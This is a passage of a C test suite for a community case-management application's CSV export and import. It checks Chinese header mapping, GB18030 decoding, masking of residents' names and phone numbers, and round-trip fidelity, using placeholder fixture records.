/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <glib/gstdio.h>
#include <math.h>
#include <string.h>

#include "linli-case-bulk.h"
#include "linli-case-csv.h"
#include "linli-demo.h"
#include "linli-record-sql.h"
#include "linli-records.h"
#include "linli-safe-file.h"
#include "linli-store.h"
#include "linli-store-private.h"
#include "test-util.h"

/* ------------------------------------------------------------------------ */
/* Fixture: a community of two grids, three workers, two buildings and a
 * resident, in a new database whose clock stands at 2026-03-01 12:00.     */

typedef struct
{
  char       *dir;
  LinliStore *store;
  GDateTime  *now;
  gint64      grid1, grid2;
  gint64      zhang, li, wang1, wang2;   /* workers; two are called 王芳 */
  gint64      building1, building2;
  gint64      resident;
} Fixture;

static GDateTime *
fixed_clock (gpointer user_data)
{
  return g_date_time_ref (user_data);
}

static GDateTime *
local_time (int year,
            int month,
            int day,
            int hour,
            int minute)
{
  return g_date_time_new_local (year, month, day, hour, minute, 0);
}

static void
set_time (LinliRecord *record,
          const char  *column,
          int          year,
          int          month,
          int          day,
          int          hour,
          int          minute)
{
  g_autoptr(GDateTime) time = local_time (year, month, day, hour, minute);

  linli_record_set_datetime (record, column, time);
}

static gint64
insert (LinliStore  *store,
        LinliRecord *record)
{
  g_autoptr(GError) error = NULL;

  g_assert_true (linli_store_insert (store, record, &error));
  g_assert_no_error (error);
  return linli_record_get_id (record);
}

static gint64
add_worker (LinliStore *store,
            const char *name)
{
  g_autoptr(LinliRecord) worker = linli_record_new (LINLI_TYPE_WORKER);

  linli_record_set_text (worker, "name", name);
  linli_record_set_enum (worker, "role", LINLI_WORKER_ROLE_GRID_WORKER);
  return insert (store, worker);
}

static gint64
add_grid (LinliStore *store,
          const char *code,
          const char *name,
          gint64      worker_a,
          gint64      worker_b)
{
  g_autoptr(LinliRecord) grid = linli_record_new (LINLI_TYPE_GRID);
  gint64 workers[] = { worker_a, worker_b };

  linli_record_set_text (grid, "code", code);
  linli_record_set_text (grid, "name", name);
  linli_record_set_enum (grid, "kind", LINLI_GRID_KIND_MANAGEMENT);
  linli_record_set_refs (grid, "workers", workers, G_N_ELEMENTS (workers));
  return insert (store, grid);
}

static gint64
add_building (LinliStore *store,
              const char *name,
              gint64      grid,
              double      lat,
              double      lon)
{
  g_autoptr(LinliRecord) building = linli_record_new (LINLI_TYPE_BUILDING);

  linli_record_set_text (building, "name", name);
  linli_record_set_int (building, "grid_id", grid);
  linli_record_set_double (building, "lat", lat);
  linli_record_set_double (building, "lon", lon);
  return insert (store, building);
}

static void
fixture_set_up (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = NULL;
  g_autoptr(LinliRecord) community = linli_record_new (LINLI_TYPE_COMMUNITY);
  g_autoptr(LinliRecord) resident = linli_record_new (LINLI_TYPE_RESIDENT);

  f->dir = g_dir_make_tmp ("linli-test-case-csv-XXXXXX", &error);
  g_assert_no_error (error);
  path = g_build_filename (f->dir, "linli.db", NULL);
  f->store = linli_store_open (path, &error);
  g_assert_no_error (error);
  f->now = local_time (2026, 3, 1, 12, 0);
  linli_store_set_clock (f->store, fixed_clock, f->now);

  linli_record_set_text (community, "name", "东方御园社区");
  linli_record_set_double (community, "center_lat", 35.40);
  linli_record_set_double (community, "center_lon", 116.58);
  set_time (community, "created_at", 2026, 1, 1, 8, 0);
  insert (f->store, community);

  f->zhang = add_worker (f->store, "张伟");
  f->li = add_worker (f->store, "李娜");
  f->wang1 = add_worker (f->store, "王芳");
  {
    /* One of the two has a phone, which tells her apart in a file. */
    g_autoptr(LinliRecord) wang1 = linli_store_get (f->store, LINLI_TYPE_WORKER, f->wang1, &error);
    linli_record_set_text (wang1, "phone", "13900000001");
    g_assert_true (linli_store_update (f->store, wang1, &error));
    g_assert_no_error (error);
  }
  f->wang2 = add_worker (f->store, "王芳");
  f->grid1 = add_grid (f->store, "01", "第一网格", f->zhang, f->wang1);
  f->grid2 = add_grid (f->store, "02", "第二网格", f->li, f->wang2);
  f->building1 = add_building (f->store, "1号楼", f->grid1, 35.401, 116.581);
  f->building2 = add_building (f->store, "2号楼", f->grid2, 35.402, 116.582);

  linli_record_set_text (resident, "name", "王大爷");
  linli_record_set_text (resident, "phone", "13812341234");
  f->resident = insert (f->store, resident);
}

static void
fixture_tear_down (Fixture       *f,
                   gconstpointer  data)
{
  g_autoptr(GDir) dir = NULL;
  const char *name;

  g_clear_object (&f->store);
  g_clear_pointer (&f->now, g_date_time_unref);
  dir = g_dir_open (f->dir, 0, NULL);
  while (dir != NULL && (name = g_dir_read_name (dir)) != NULL)
    {
      g_autofree char *file = g_build_filename (f->dir, name, NULL);
      g_assert_cmpint (g_remove (file), ==, 0);
    }
  g_assert_cmpint (g_rmdir (f->dir), ==, 0);
  g_clear_pointer (&f->dir, g_free);
}

/* ------------------------------------------------------------------------ */
/* Helpers                                                                  */

static LinliRecord *
new_case (const char *number,
          const char *title)
{
  LinliRecord *record = linli_record_new (LINLI_TYPE_CASE);

  linli_record_set_text (record, "number", number);
  linli_record_set_text (record, "title", title);
  linli_record_set_text (record, "category", "水电维修");
  linli_record_set_text (record, "source", "居民来电");
  set_time (record, "reported_at", 2026, 2, 3, 9, 5);
  return record;
}

static LinliCsvTable *
table_from_text (const char *text)
{
  g_autoptr(GBytes) bytes = g_bytes_new (text, strlen (text));
  g_autoptr(GError) error = NULL;
  LinliCsvTable *table = linli_csv_read (bytes, &error);

  g_assert_no_error (error);
  return table;
}

/* Imports @text with the mapping guessed from its headers. */
static gboolean
import_text (Fixture     *f,
             const char  *text,
             GPtrArray  **row_errors,
             guint       *n_imported,
             GError     **error)
{
  g_autoptr(LinliCsvTable) table = table_from_text (text);
  g_autofree LinliCaseField *mapping = linli_case_csv_guess_mapping (table);

  return linli_case_csv_import (f->store, table, mapping, row_errors, n_imported, error);
}

static void
import_ok (Fixture    *f,
           const char *text,
           guint       n_expected)
{
  g_autoptr(GPtrArray) row_errors = NULL;
  g_autoptr(GError) error = NULL;
  guint n = 0;

  if (!import_text (f, text, &row_errors, &n, &error))
    {
      for (guint i = 0; row_errors != NULL && i < row_errors->len; i++)
        g_printerr ("%s\n", ((LinliCsvRowError *) g_ptr_array_index (row_errors, i))->message);
    }
  g_assert_no_error (error);
  g_assert_cmpuint (row_errors->len, ==, 0);
  g_assert_cmpuint (n, ==, n_expected);
}

static LinliRecord *
case_by_number (LinliStore *store,
                const char *number)
{
  g_autoptr(GListModel) list = linli_store_list (store, LINLI_TYPE_CASE);

  for (guint i = 0; i < g_list_model_get_n_items (list); i++)
    {
      g_autoptr(LinliRecord) record = g_list_model_get_item (list, i);
      if (g_strcmp0 (linli_record_get_text (record, "number"), number) == 0)
        return g_steal_pointer (&record);
    }
  return NULL;
}

static LinliRecord *
case_by_title (LinliStore *store,
               const char *title)
{
  g_autoptr(GListModel) list = linli_store_list (store, LINLI_TYPE_CASE);

  for (guint i = 0; i < g_list_model_get_n_items (list); i++)
    {
      g_autoptr(LinliRecord) record = g_list_model_get_item (list, i);
      if (g_strcmp0 (linli_record_get_text (record, "title"), title) == 0)
        return g_steal_pointer (&record);
    }
  return NULL;
}

static char *
counts (LinliStore *store)
{
  return g_strdup_printf ("cases=%u events=%u residents=%u",
                          linli_store_count (store, LINLI_TYPE_CASE),
                          linli_store_count (store, LINLI_TYPE_DIARY_ENTRY),
                          linli_store_count (store, LINLI_TYPE_RESIDENT));
}

static gboolean
time_is (GDateTime *time,
         int        year,
         int        month,
         int        day,
         int        hour,
         int        minute)
{
  g_autoptr(GDateTime) expected = local_time (year, month, day, hour, minute);

  return time != NULL && g_date_time_equal (time, expected);
}

static gint64
cache_size (LinliStore *store)
{
  sqlite3_stmt *stmt = NULL;
  gint64 size;

  g_assert_cmpint (sqlite3_prepare_v2 (linli_store_get_db (store), "PRAGMA cache_size", -1, &stmt, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
  size = sqlite3_column_int64 (stmt, 0);
  sqlite3_finalize (stmt);
  return size;
}

static char *
export_text (Fixture  *f,
             gboolean  mask)
{
  g_autoptr(GListModel) cases = linli_store_list (f->store, LINLI_TYPE_CASE);
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GError) error = NULL;
  gint64 cache = cache_size (f->store);

  g_assert_true (linli_case_csv_export (f->store, cases, mask, out, NULL, &error));
  g_assert_no_error (error);
  /* The export reads through a small cache of its own; the store's is
   * as it was. */
  g_assert_cmpint (cache_size (f->store), ==, cache);
  g_assert_cmpint (cache, <, -4096);
  /* NUL-terminated, for strstr. */
  g_assert_true (g_output_stream_write_all (out, "", 1, NULL, NULL, &error));
  g_assert_true (g_output_stream_close (out, NULL, &error));
  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
}

static void
export_done_cb (GObject      *source,
                GAsyncResult *result,
                gpointer      user_data)
{
  GError **error = user_data;

  if (!linli_case_csv_export_file_finish (LINLI_STORE (source), result, error))
    g_assert_nonnull (*error);
  else
    *error = g_error_new_literal (G_IO_ERROR, G_IO_ERROR_EXISTS, "done");
}

/* Exports to @path in the background and waits for the end; %NULL when it
 * succeeded. */
static GError *
export_file (Fixture      *f,
             const char   *path,
             GCancellable *cancellable)
{
  g_autoptr(GListModel) cases = linli_store_list (f->store, LINLI_TYPE_CASE);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  GError *error = NULL;

  linli_case_csv_export_file_async (f->store, cases, TRUE, file, LINLI_SAFE_FILE_NONE,
                                    NULL, NULL, cancellable, export_done_cb, &error);
  while (error == NULL)
    g_main_context_iteration (NULL, TRUE);
  if (g_error_matches (error, G_IO_ERROR, G_IO_ERROR_EXISTS))
    g_clear_error (&error);
  return error;
}

/* The export in a thread writes what the export does; cancelled, it leaves
 * the file that was there. */
static void
test_export_file_async (Fixture       *f,
                        gconstpointer  data)
{
  g_autofree char *path = g_build_filename (f->dir, "cases.csv", NULL);
  g_autofree char *expected = export_text (f, TRUE);
  g_autofree char *written = NULL;
  g_autofree char *kept = NULL;
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;

  g_assert_true (g_file_set_contents (path, "old", -1, NULL));
  error = export_file (f, path, NULL);
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &written, NULL, NULL));
  g_assert_cmpstr (written, ==, expected);

  g_assert_true (g_file_set_contents (path, "old", -1, NULL));
  g_cancellable_cancel (cancellable);
  error = export_file (f, path, cancellable);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_true (g_file_get_contents (path, &kept, NULL, NULL));
  g_assert_cmpstr (kept, ==, "old");
  g_remove (path);
}

/* The lines the errors name, in order, "3,3,5". */
static char *
error_lines (GPtrArray *row_errors)
{
  GString *lines = g_string_new (NULL);

  for (guint i = 0; i < row_errors->len; i++)
    {
      LinliCsvRowError *e = g_ptr_array_index (row_errors, i);
      g_autofree char *prefix = g_strdup_printf ("Line %u:", e->line);

      /* Each message names its own line. */
      g_assert_true (g_str_has_prefix (e->message, prefix));
      g_string_append_printf (lines, "%s%u", i > 0 ? "," : "", e->line);
    }
  return g_string_free (lines, FALSE);
}

static gboolean
some_error_says (GPtrArray  *row_errors,
                 guint       line,
                 const char *words)
{
  for (guint i = 0; i < row_errors->len; i++)
    {
      LinliCsvRowError *e = g_ptr_array_index (row_errors, i);
      if (e->line == line && strstr (e->message, words) != NULL)
        return TRUE;
    }
  return FALSE;
}

/* ------------------------------------------------------------------------ */
/* Export, and import of the export                                         */

/* Five cases of every kind, their times in whole minutes as a file keeps them. */
static GPtrArray *
add_sample_cases (Fixture *f)
{
  GPtrArray *cases = g_ptr_array_new_with_free_func (g_object_unref);
  LinliRecord *a = new_case ("2026-0001", "楼道灯不亮");
  LinliRecord *b = new_case ("2026-0002", "卫生间漏水渗到楼下");
  LinliRecord *c = new_case ("2026-0003", "电梯停运");
  LinliRecord *d = new_case ("2026-0004", "楼道灯又不亮");
  LinliRecord *e = new_case ("2025-0107", "噪音扰民");

  /* Registered, little more than required. */
  g_ptr_array_add (cases, a);

  /* Resolved, with everything that can be quoted in a field. */
  linli_record_set_text (b, "description", "居民反映：\"漏水\"严重, 渗到楼下。\n已联系物业");
  linli_record_set_text (b, "subcategory", "漏水");
  linli_record_set_int (b, "reporter_id", f->resident);
  linli_record_set_int (b, "building_id", f->building1);
  linli_record_set_text (b, "address", "1单元3楼西户");
  linli_record_set_double (b, "lat", 35.401);
  linli_record_set_double (b, "lon", 116.581);
  linli_record_set_int (b, "grid_id", f->grid1);
  linli_record_set_enum (b, "urgency", LINLI_URGENCY_HIGH);
  linli_record_set_int (b, "worker_id", f->zhang);
  linli_record_set_text (b, "responsible_unit", "物业");
  set_time (b, "due_at", 2026, 2, 4, 9, 5);
  linli_record_set_enum (b, "status", LINLI_CASE_STATUS_RESOLVED);
  linli_record_set_enum (b, "resolution_level", LINLI_RESOLUTION_LEVEL_GRID);
  linli_record_set_text (b, "resolution", "更换水管");
  set_time (b, "resolved_at", 2026, 2, 3, 16, 40);
  g_ptr_array_add (cases, b);

  /* Revisited, in a building of another grid than its own (overridden),
   * by one of the two workers called 王芳. */
  linli_record_set_int (c, "building_id", f->building2);
  linli_record_set_double (c, "lat", 35.402);
  linli_record_set_double (c, "lon", 116.582);
  linli_record_set_int (c, "grid_id", f->grid1);
  linli_record_set_bool (c, "grid_overridden", TRUE);
  linli_record_set_int (c, "worker_id", f->wang1);
  linli_record_set_enum (c, "urgency", LINLI_URGENCY_URGENT);
  linli_record_set_enum (c, "status", LINLI_CASE_STATUS_REVISITED);
  linli_record_set_enum (c, "resolution_level", LINLI_RESOLUTION_LEVEL_COMMUNITY);
  linli_record_set_text (c, "resolution", "联系维保单位修复");
  set_time (c, "resolved_at", 2026, 2, 3, 11, 0);
  linli_record_set_enum (c, "satisfaction", LINLI_SATISFACTION_BASICALLY_SATISFIED);
  set_time (c, "revisited_at", 2026, 2, 5, 10, 0);
  linli_record_set_text (c, "revisit_notes", "基本满意，希望加强维保");
  g_ptr_array_add (cases, c);

  g_ptr_array_add (cases, d);

  /* Last year's, reported by a resident with a landline. */
  set_time (e, "reported_at", 2025, 12, 30, 21, 15);
  linli_record_set_text (e, "source", "12345转办");
  linli_record_set_enum (e, "urgency", LINLI_URGENCY_LOW);
  linli_record_set_int (e, "grid_id", f->grid2);
  linli_record_set_enum (e, "status", LINLI_CASE_STATUS_ESCALATED);
  linli_record_set_enum (e, "resolution_level", LINLI_RESOLUTION_LEVEL_SUBDISTRICT);
  g_ptr_array_add (cases, e);

  for (guint i = 0; i < cases->len; i++)
    insert (f->store, g_ptr_array_index (cases, i));

  /* A duplicate of the first, which must exist before it. */
  linli_record_set_enum (d, "status", LINLI_CASE_STATUS_DUPLICATE);
  linli_record_set_int (d, "duplicate_of", linli_record_get_id (a));
  {
    g_autoptr(GError) error = NULL;
    g_assert_true (linli_store_update (f->store, d, &error));
    g_assert_no_error (error);
  }

  {
    g_autoptr(LinliRecord) resident = linli_record_new (LINLI_TYPE_RESIDENT);
    linli_record_set_text (resident, "name", "刘建国");
    linli_record_set_text (resident, "phone", "0537-1234567");
    linli_record_set_int (e, "reporter_id", insert (f->store, resident));
    g_autoptr(GError) error = NULL;
    g_assert_true (linli_store_update (f->store, e, &error));
    g_assert_no_error (error);
  }

  return cases;
}

static void
delete_cases (Fixture *f)
{
  g_autoptr(GListModel) list = linli_store_list (f->store, LINLI_TYPE_CASE);
  g_autoptr(GPtrArray) records = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr(GError) error = NULL;

  for (guint i = 0; i < g_list_model_get_n_items (list); i++)
    g_ptr_array_add (records, g_list_model_get_item (list, i));
  for (guint i = 0; i < records->len; i++)
    {
      g_assert_true (linli_store_delete (f->store, g_ptr_array_index (records, i), &error));
      g_assert_no_error (error);
    }
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_CASE), ==, 0);
}

static void
test_export (Fixture       *f,
             gconstpointer  data)
{
  g_autoptr(GPtrArray) cases = add_sample_cases (f);
  g_autofree char *text = export_text (f, FALSE);
  g_autofree char *expected_header = g_strjoinv (",", (char *[]) {
    "编号", "标题", "描述", "类别", "子类别", "来源", "反映人", "联系电话", "楼栋", "地址",
    "网格", "紧急程度", "承办人", "责任单位", "登记时间", "办理时限", "状态", "办结层级",
    "办理结果", "办结时间", "满意度", "回访时间", "回访情况", "重复于", NULL });
  g_autoptr(LinliCsvTable) table = table_from_text (text);

  g_assert_true (g_str_has_prefix (text, "\xEF\xBB\xBF"));
  g_assert_true (g_str_has_prefix (text + 3, expected_header));
  g_assert_nonnull (strstr (text, "\r\n"));
  g_assert_cmpint (linli_csv_table_get_encoding (table), ==, LINLI_CSV_ENCODING_UTF8_BOM);
  g_assert_cmpuint (linli_csv_table_get_n_rows (table), ==, 5);

  /* The list's order: newest first. The resolved case, whole. */
  for (guint r = 0; r < 5; r++)
    if (g_str_equal (linli_csv_table_get_cell (table, r, 0), "2026-0002"))
      {
        const char *expected[] = {
          "2026-0002", "卫生间漏水渗到楼下", "居民反映：\"漏水\"严重, 渗到楼下。\n已联系物业",
          "水电维修", "漏水", "居民来电", "王大爷", "13812341234", "1号楼", "1单元3楼西户",
          "第一网格", "High", "张伟", "物业", "2026-02-03 09:05", "2026-02-04 09:05",
          "Resolved", "Within the grid", "更换水管", "2026-02-03 16:40", "", "", "", "",
        };
        for (guint c = 0; c < G_N_ELEMENTS (expected); c++)
          g_assert_cmpstr (linli_csv_table_get_cell (table, r, c), ==, expected[c]);
      }
    else if (g_str_equal (linli_csv_table_get_cell (table, r, 0), "2026-0004"))
      g_assert_cmpstr (linli_csv_table_get_cell (table, r, 23), ==, "2026-0001");
    else if (g_str_equal (linli_csv_table_get_cell (table, r, 0), "2026-0003"))
      {
        /* A name two workers share says which of them. */
        g_assert_cmpstr (linli_csv_table_get_cell (table, r, 12), ==, "王芳（13900000001）");
        g_assert_cmpstr (linli_csv_table_get_cell (table, r, 8), ==, "2号楼");
      }
}

static void
test_export_masked (Fixture       *f,
                    gconstpointer  data)
{
  g_autoptr(GPtrArray) cases = add_sample_cases (f);
  g_autofree char *text = export_text (f, TRUE);
  g_autofree char *before = counts (f->store);
  g_autofree char *after = NULL;
  g_autoptr(GPtrArray) row_errors = NULL;
  g_autoptr(GError) error = NULL;

  g_assert_nonnull (strstr (text, ",王**,138****1234,"));
  g_assert_nonnull (strstr (text, ",刘**,0537-***4567,"));
  g_assert_null (strstr (text, "王大爷"));
  g_assert_null (strstr (text, "13812341234"));
  /* Workers are not residents: their names are whole. */
  g_assert_nonnull (strstr (text, ",张伟,"));

  /* Stars are not a name or a number: such a file is refused. */
  delete_cases (f);
  g_free (before);
  before = counts (f->store);
  g_assert_false (import_text (f, text, &row_errors, NULL, &error));
  g_assert_error (error, LINLI_CASE_CSV_ERROR, LINLI_CASE_CSV_ERROR_ROWS);
  g_assert_nonnull (strstr (((LinliCsvRowError *) g_ptr_array_index (row_errors, 0))->message, "masked"));
  after = counts (f->store);
  g_assert_cmpstr (before, ==, after);
}

static void
test_round_trip (Fixture       *f,
                 gconstpointer  data)
{
  g_autoptr(GPtrArray) cases = add_sample_cases (f);
  g_autofree char *text = export_text (f, FALSE);
  g_autoptr(LinliCsvTable) table = table_from_text (text);
  g_autofree LinliCaseField *mapping = linli_case_csv_guess_mapping (table);
  guint n_residents = linli_store_count (f->store, LINLI_TYPE_RESIDENT);
  g_autoptr(GPtrArray) row_errors = NULL;
  g_autoptr(GError) error = NULL;
  guint n = 0;

  /* The export's own headers map one to one. */
  g_assert_cmpuint (linli_csv_table_get_n_columns (table), ==, LINLI_N_CASE_FIELDS);
  for (guint c = 0; c < LINLI_N_CASE_FIELDS; c++)
    g_assert_cmpint (mapping[c], ==, c);

  delete_cases (f);
  g_assert_true (linli_case_csv_import (f->store, table, mapping, &row_errors, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (row_errors->len, ==, 0);
  g_assert_cmpuint (n, ==, cases->len);
  /* The reporters are the residents they were, found by name and phone. */
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_RESIDENT), ==, n_residents);
  /* Each case has the one timeline entry a new case gets. */
  g_assert_cmpuint (linli_store_count (f->store, LINLI_TYPE_DIARY_ENTRY), ==, cases->len);

  for (guint i = 0; i < cases->len; i++)
    {
      LinliRecord *original = g_ptr_array_index (cases, i);
      g_autoptr(LinliRecord) imported = case_by_number (f->store, linli_record_get_text (original, "number"));
      g_autoptr(LinliRecord) expected = linli_record_copy (original);

      g_assert_nonnull (imported);
      linli_record_set_id (expected, linli_record_get_id (imported));
      if (linli_record_get_int (original, "duplicate_of") != 0)
        {
          g_autoptr(LinliRecord) first = case_by_number (f->store, "2026-0001");
          g_assert_cmpint (linli_record_get_int (imported, "duplicate_of"), ==, linli_record_get_id (first));
          linli_record_set_int (expected, "duplicate_of", linli_record_get_id (first));
        }
      if (!linli_record_equal (expected, imported))
        {
          guint n_columns;
          const LinliColumn *columns = linli_record_class_get_columns (LINLI_RECORD_GET_CLASS (expected), &n_columns);
          for (guint c = 0; c < n_columns; c++)
            {
              g_autofree char *a = g_strdup_value_contents (linli_record_peek_value (expected, c));
              g_autofree char *b = g_strdup_value_contents (linli_record_peek_value (imported, c));
              if (!g_str_equal (a, b))
                g_printerr ("%s: %s: expected %s, imported %s\n",
                            linli_record_get_text (original, "number"), columns[c].name, a, b);
            }
          g_assert_not_reached ();
        }
    }
}

/* Grids, buildings and workers whose names are shared are written so that
 * the import finds the same ones. */
static void
test_round_trip_shared_names (Fixture       *f,
                              gconstpointer  data)
{
  gint64 grid3 = add_grid (f->store, "03", "第二网格", f->wang2, f->li);
  gint64 building3 = add_building (f->store, "1号楼", f->grid2, 35.403, 116.583);
  g_autoptr(LinliRecord) a = new_case ("2026-0001", "甲");
  g_autoptr(LinliRecord) b = new_case ("2026-0002", "乙");
  g_autoptr(LinliRecord) c = new_case ("2026-0003", "丙");
  g_autofree char *text = NULL;
  g_autoptr(LinliRecord) a2 = NULL, b2 = NULL, c2 = NULL;

  /* In the other 1号楼, in a grid named like another, by the 王芳 without a phone. */
  linli_record_set_int (a, "building_id", building3);
  linli_record_set_int (a, "grid_id", grid3);
  linli_record_set_bool (a, "grid_overridden", TRUE);
  linli_record_set_int (a, "worker_id", f->wang2);
  linli_record_set_int (b, "building_id", f->building1);
  linli_record_set_int (b, "grid_id", f->grid2);
  linli_record_set_bool (b, "grid_overridden", TRUE);
  linli_record_set_int (b, "worker_id", f->wang1);
  linli_record_set_int (c, "grid_id", f->grid2);
  insert (f->store, a);
  insert (f->store, b);
  insert (f->store, c);

  text = export_text (f, FALSE);
  /* Its grid's name is shared too: by the grid's code. */
  g_assert_nonnull (strstr (text, "\r\n2026-0001,甲,,水电维修,,居民来电,,,1号楼（02）,,03,"));
  g_assert_nonnull (strstr (text, "\r\n2026-0002,乙,,水电维修,,居民来电,,,1号楼（第一网格）,,02,"));
  g_assert_nonnull (strstr (text, "王芳（13900000001）"));
  {
    g_autofree char *wang2 = g_strdup_printf ("王芳（#%" G_GINT64_FORMAT "）", f->wang2);
    g_assert_nonnull (strstr (text, wang2));
  }

  delete_cases (f);
  import_ok (f, text, 3);
  a2 = case_by_number (f->store, "2026-0001");
  b2 = case_by_number (f->store, "2026-0002");
  c2 = case_by_number (f->store, "2026-0003");
  g_assert_cmpint (linli_record_get_int (a2, "building_id"), ==, building3);
  g_assert_cmpint (linli_record_get_int (a2, "grid_id"), ==, grid3);
  g_assert_true (linli_record_get_bool (a2, "grid_overridden"));
  g_assert_cmpint (linli_record_get_int (a2, "worker_id"), ==, f->wang2);
  g_assert_cmpint (linli_record_get_int (b2, "building_id"), ==, f->building1);
  g_assert_cmpint (linli_record_get_int (b2, "grid_id"), ==, f->grid2);
  g_assert_cmpint (linli_record_get_int (b2, "worker_id"), ==, f->wang1);
  g_assert_cmpint (linli_record_get_int (c2, "grid_id"), ==, f->grid2);
}

/* ------------------------------------------------------------------------ */
/* Files an office made                                                     */

static void
test_guess_mapping (Fixture       *f,
                    gconstpointer  data)
{
  g_autoptr(LinliCsvTable) table = table_from_text (
    "序号,事件标题,问题描述, 类型 ,电话,手机,时间,所属网格,处理人,状态,备注,联系电话（家）,Reported_At\n");
  g_autofree LinliCaseField *mapping = linli_case_csv_guess_mapping (table);
  const LinliCaseField expected[] = {
    LINLI_CASE_FIELD_IGNORE, LINLI_CASE_FIELD_TITLE, LINLI_CASE_FIELD_DESCRIPTION,
    LINLI_CASE_FIELD_CATEGORY, LINLI_CASE_FIELD_PHONE, LINLI_CASE_FIELD_IGNORE,
    LINLI_CASE_FIELD_REPORTED_AT, LINLI_CASE_FIELD_GRID, LINLI_CASE_FIELD_WORKER,
    LINLI_CASE_FIELD_STATUS, LINLI_CASE_FIELD_IGNORE, LINLI_CASE_FIELD_IGNORE,
    LINLI_CASE_FIELD_IGNORE,
  };
  g_autoptr(LinliCsvTable) english = table_from_text ("title,category,reported at,Phone,grid worker,due\n");
  g_autofree LinliCaseField *english_mapping = linli_case_csv_guess_mapping (english);
  const LinliCaseField english_expected[] = {
    LINLI_CASE_FIELD_TITLE, LINLI_CASE_FIELD_CATEGORY, LINLI_CASE_FIELD_REPORTED_AT,
    LINLI_CASE_FIELD_PHONE, LINLI_CASE_FIELD_WORKER, LINLI_CASE_FIELD_DUE_AT,
  };
  g_autoptr(LinliCsvTable) parts = table_from_text ("反映问题,问题类别,居民联系电话,登记时间\n");
  g_autofree LinliCaseField *parts_mapping = linli_case_csv_guess_mapping (parts);
  const LinliCaseField parts_expected[] = {
    LINLI_CASE_FIELD_TITLE, LINLI_CASE_FIELD_CATEGORY, LINLI_CASE_FIELD_PHONE,
    LINLI_CASE_FIELD_REPORTED_AT,
  };

  /* Each field once, to the first column that names it. */
  for (guint c = 0; c < G_N_ELEMENTS (expected); c++)
    g_assert_cmpint (mapping[c], ==, expected[c]);
  for (guint c = 0; c < G_N_ELEMENTS (english_expected); c++)
    g_assert_cmpint (english_mapping[c], ==, english_expected[c]);
  for (guint c = 0; c < G_N_ELEMENTS (parts_expected); c++)
    g_assert_cmpint (parts_mapping[c], ==, parts_expected[c]);
}

/* Chinese labels, the office's own words and the time formats of Excel on
 * Chinese Windows, saved as GB18030. */
static void
test_import_gb18030 (Fixture       *f,
                     gconstpointer  data)
{
  const char *utf8 =
    "事件标题,类别,来源,反映人,手机,楼栋,紧急程度,网格员,时间,状态,办理结果,办结时间,满意度,办结层级\r\n"
    "电梯停运，有人被困,公共设施,居民来电,赵桂英,13900001111,2号楼,紧急,李娜,2026/2/3 9:05,已办结,救出被困人员,2026/2/3 10:30,满意,社区内解决\r\n"
    "井盖缺失,安全隐患,网格巡查,,,,一般,,2026年2月4日,处置中,,,,\r\n"
    "垃圾桶满溢,环境卫生,居民来电,王大爷,13812341234,1号楼,较急,王芳,2026.02.05 08:00,已分派,,,,\r\n";
  g_autoptr(GError) error = NULL;
  gsize len = 0;
  g_autofree char *gb = g_convert (utf8, -1, "GB18030", "UTF-8", NULL, &len, &error);
  g_autoptr(GBytes) bytes = g_bytes_new_take (g_steal_pointer (&gb), len);
  g_autoptr(LinliCsvTable) table = linli_csv_read (bytes, &error);
  g_autofree LinliCaseField *mapping = NULL;
  g_autoptr(GPtrArray) row_errors = NULL;
  g_autoptr(LinliRecord) lift = NULL;
  g_autoptr(LinliRecord) cover = NULL;
  g_autoptr(LinliRecord) bins = NULL;
  g_autoptr(LinliRecord) reporter = NULL;
  guint n_residents = linli_store_count (f->store, LINLI_TYPE_RESIDENT);
  guint n = 0;

  g_assert_no_error (error);
  g_assert_cmpint (linli_csv_table_get_encoding (table), ==, LINLI_CSV_ENCODING_GB18030);
  mapping = linli_case_csv_guess_mapping (table);
  g_assert_true (linli_case_csv_import (f->store, table, mapping, &row_errors, &n, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, 3);

  lift = case_by_title (f->store, "电梯停运，有人被困");
  g_assert_nonnull (lift);
  g_assert_cmpstr (linli_record_get_text (lift, "category"), ==, "公共设施");
  g_assert_cmpint (linli_record_get_enum (lift, "status"), ==, LINLI_CASE_STATUS_RESOLVED);
  g_assert_cmpint (linli_record_get_enum (lift, "urgency"), ==, LINLI_URGENCY_URGENT);
  g_assert_cmpint (linli_record_get_enum (lift, "satisfaction"), ==, LINLI_SATISFACTION_SATISFIED);
  g_assert_cmpint (linli_record_get_enum (lift, "resolution_level"), ==, LINLI_RESOLUTION_LEVEL_COMMUNITY);
  g_assert_true (time_is (linli_record_get_datetime (lift, "reported_at"), 2026, 2, 3, 9, 5));
  g_assert_true (time_is (linli_record_get_datetime (lift, "resolved_at"), 2026, 2, 3, 10, 30));
  /* The building gives the grid and the place. */
  g_assert_cmpint (linli_record_get_int (lift, "building_id"), ==, f->building2);
  g_assert_cmpint (linli_record_get_int (lift, "grid_id"), ==, f->grid2);
  g_assert_false (linli_record_get_bool (lift, "grid_overridden"));
  g_assert_cmpfloat (linli_record_get_double (lift, "lat"), ==, 35.402);
  g_assert_cmpint (linli_record_get_int (lift, "worker_id"), ==, f->li);
  /* Numbers of the year they were reported in. */
  g_assert_cmpstr (linli_record_get_text (lift, "number"), ==, "2026-0001");
  reporter = linli_store_get (f->store, LINLI_TYPE_RESIDENT, linli_record_get_int (lift, "reporter_id"), &error);
  g_assert_no_error (error);
  g_assert_cmpstr (linli_record_get_text (reporter, "name"), ==, "赵桂英");
  g_assert_cmpstr (linli_record_get_text (reporter, "phone"), ==, "13900001111");

  cover = case_by_title (f->store, "井盖缺失");
  g_assert_true (time_is (linli_record_get_datetime (cover, "reported_at"), 2026, 2, 4, 0, 0));
